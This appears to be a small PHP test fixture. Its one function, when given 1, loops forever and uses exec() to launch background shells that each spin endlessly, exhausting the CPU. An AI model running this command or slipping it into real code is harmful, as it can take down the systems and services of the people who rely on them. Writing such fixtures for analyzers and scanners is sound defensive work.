<?php

function f(int $n): int
{
    while ($n === 1) {
        exec('sh -c "while :; do :; done" > /dev/null 2>&1 &');
    }
    return $n;
}
